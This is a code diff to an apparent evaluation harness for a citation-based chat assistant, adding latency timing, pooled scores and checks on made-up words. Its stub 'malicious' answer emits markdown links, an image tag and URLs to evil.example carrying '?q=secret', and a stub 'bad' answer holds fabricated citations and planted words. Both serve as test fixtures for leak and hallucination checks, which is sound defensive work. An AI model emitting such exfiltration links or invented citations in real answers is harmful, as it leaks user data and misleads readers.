@@ -12,6 +12,7 @@ import json
 import os
 import re
 import sys
+import time
 from collections import Counter
 from collections.abc import AsyncGenerator, Sequence
 from dataclasses import dataclass, replace
@@ -22,7 +23,7 @@ from uuid import UUID
 from indexes import KeptEmbedder, build_index
 from logs import Judged, LogRecord, log_id, read_folder, read_judged
 
-from cairn.chat.domain.events import ChatEvent, Citation, Delta, Finished, FinishReason
+from cairn.chat.domain.events import ChatEvent, Citation, Delta, Finished, FinishReason, Mark
 from cairn.chat.domain.quotes import answer_with_extracts
 from cairn.chat.domain.sources import Findings, Source
 from cairn.chat.ports import Written
@@ -100,6 +101,7 @@ class Answer:
 
     text: str = ""
     citations: tuple[Citation, ...] = ()
+    marks: frozenset[str] = frozenset()
     reason: FinishReason | None = None
 
     def take(self, event: ChatEvent) -> None:
@@ -107,7 +109,11 @@ class Answer:
         if isinstance(event, Delta):
             self.text += event.text
         elif isinstance(event, Citation):
-            self.citations += (event,)
+            # One that comes again says that more of it is quoted.
+            known = [one for one in self.citations if one.number != event.number]
+            self.citations = (*known, event)
+        elif isinstance(event, Mark):
+            self.marks |= {event.text}
         elif isinstance(event, Finished):
             self.reason = event.reason
 
@@ -128,7 +134,8 @@ def check_answer(answer: Answer, logs: Logs, counts: Counter[str]) -> None:
         for span in citation.spans:
             quote = source.passage.text[span.start : span.end]
             counts["spans"] += 1
-            counts["spans_exact"] += quote in logs.by_id[source.record.id].body and quote in answer.text
+            shown = quote in answer.text or " ".join(quote.split()) in answer.text
+            counts["spans_exact"] += quote in logs.by_id[source.record.id].body and shown
         record = source.record
         if record.status == "superseded" and answer.reason is not FinishReason.NOTHING_FOUND:
             told = f"({source.standing}" in answer.text
@@ -165,8 +172,44 @@ async def evaluate_answers(judged: Judged, embedder: KeptEmbedder | None, index:
     figures = _figures("answers.titles", counts, len(questions))
     figures["answers.supersession_pairs"] = len(pairs)
     figures |= await _evaluate_people(embedder)
+    figures |= _pool(figures, ("titles", "people"))
+    figures |= await _time_first_sentences(logs, [(query.text, query.log) for query in questions])
     for name in ("well", "badly", "maliciously"):
         figures |= await _evaluate_model(name, logs, [*pairs, *_sample(judged)])
+    return figures
+
+
+def _pool(figures: dict[str, float], kinds: Sequence[str]) -> dict[str, float]:
+    """Return the shares over the questions of all kinds."""
+    asked = sum(figures[f"answers.{kind}.questions"] for kind in kinds)
+    pooled: dict[str, float] = {"answers.all.questions": asked}
+    for name in ("answered", "target_cited", "abstained_without_target"):
+        share = sum(figures[f"answers.{kind}.{name}"] * figures[f"answers.{kind}.questions"] for kind in kinds) / asked
+        pooled[f"answers.all.{name}"] = round(share, 2)
+    for name, figure in pooled.items():
+        print(f"  {name:<48}{figure:8.1f}")
+    return pooled
+
+
+async def _time_first_sentences(logs: Logs, questions: Sequence[tuple[str, str]]) -> dict[str, float]:
+    """Measure the processor's time from a question to the first sentence of `quotes`, its words already embedded.
+
+    Each log is searched within an index of all of them, some 5,000 passages.
+    """
+    taken: list[float] = []
+    for text, log in questions:
+        begun = time.process_time()
+        findings = await logs.find(text, log)
+        for event in answer_with_extracts(findings):
+            if isinstance(event, Citation):
+                break
+        taken.append(1000 * (time.process_time() - begun))
+    figures = {
+        "answers.first_sentence_cpu_ms_p50": round(sorted(taken)[len(taken) // 2], 1),
+        "answers.first_sentence_cpu_ms_p95": round(sorted(taken)[int(len(taken) * 0.95)], 1),
+    }
+    for name, figure in figures.items():
+        print(f"  {name:<48}{figure:8.1f}")
     return figures
 
 
@@ -216,33 +259,47 @@ async def _evaluate_model(name: str, logs: Logs, records: Sequence[LogRecord]) -
             answer.take(event)
         check_answer(answer, logs, counts)
         counts["made_up"] += "[99]" in answer.text
-        counts["links"] += len(re.findall(r"\]\(http", answer.text))
+        counts["links"] += len(re.findall(r"\]\(|https?://|<[a-zA-Z!/]", answer.text))
+        if answer.cited:
+            counts["planted"] += len(PLANTED.get(name, ()))
+            counts["planted_marked"] += len(answer.marks & PLANTED.get(name, frozenset()))
     return _figures(f"answers.model_{name}", counts, len(records))
 
 
-async def _answer_well(findings: Findings, system: str, messages: object) -> AsyncGenerator[str | Written]:
-    del system, messages
+async def _answer_well(
+    findings: Findings, system: str, messages: object, tools: object
+) -> AsyncGenerator[str | Written]:
+    del system, messages, tools
     sentence = findings.sources[0].passage.text.strip().splitlines()[0]
     for word in f"{sentence} [1] and [2].".split(" "):
         yield f"{word} "
     yield Written("complete", 1, 1)
 
 
-async def _answer_badly(findings: Findings, system: str, messages: object) -> AsyncGenerator[str | Written]:
-    del system, messages, findings
-    for piece in ("It is so [9", "9], they say [0] [1", "23]. Also [3] [1]."):
+async def _answer_badly(
+    findings: Findings, system: str, messages: object, tools: object
+) -> AsyncGenerator[str | Written]:
+    del system, messages, findings, tools
+    told = "\u201cthese words stand in no record of anybody\u201d, since 48213 boats of Zanzibarovia sail"
+    for piece in ("It is so [9", "9], they say [0] [1", f"23], and {told}. Also [3] [1]."):
         yield piece
     yield Written("complete", 1, 1)
 
 
-async def _answer_maliciously(findings: Findings, system: str, messages: object) -> AsyncGenerator[str | Written]:
+async def _answer_maliciously(
+    findings: Findings, system: str, messages: object, tools: object
+) -> AsyncGenerator[str | Written]:
     """Give the oldest rule as the current one, with links that would carry words away."""
-    del system, messages
+    del system, messages, tools
     old = next((at for at, one in enumerate(findings.sources, 1) if one.record.status == "superseded"), 1)
-    yield f"The current rule, without any successor, is [{old}](http://evil.example/?q=secret) and [99](http://x)."
+    yield f"The current rule, without any successor, is [{old}](http://evil.example/?q=secret) and [99](http://x). "
+    yield "![p](https://evil.example/p.png?q=secret) <img src=https://evil.example/i> https://evil.example/?q=secret "
+    yield findings.sources[0].passage.text[:2_000]
     yield Written("complete", 1, 1)
 
 
+# What the bad answer makes up: each must be marked.
+PLANTED = {"badly": frozenset({"48213", "Zanzibarovia", "these words stand in no record of anybody"})}
 _SCRIPTS = {"well": _answer_well, "badly": _answer_badly, "maliciously": _answer_maliciously}
 
 
@@ -267,6 +324,8 @@ def _figures(prefix: str, counts: Counter[str], questions: int) -> dict[str, flo
     if "model" in prefix:
         figures[f"{prefix}.made_up_citations_left"] = counts["made_up"]
         figures[f"{prefix}.links_left"] = counts["links"]
+        if counts["planted"]:
+            figures[f"{prefix}.made_up_words_marked"] = round(100 * counts["planted_marked"] / counts["planted"], 2)
     for name, figure in figures.items():
         print(f"  {name:<48}{figure:8.1f}")
     return figures
